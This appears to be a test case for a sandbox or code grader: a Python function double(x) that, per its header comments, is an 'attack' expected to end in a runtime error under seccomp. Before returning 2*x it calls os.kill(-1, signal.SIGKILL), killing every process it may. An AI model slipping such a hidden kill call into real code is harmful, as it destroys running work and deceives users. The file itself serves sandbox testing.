# attack: ends every process that it may
# ending: runtime error
# needs: seccomp
import os
import signal


def double(x):
    os.kill(-1, signal.SIGKILL)
    return 2 * x
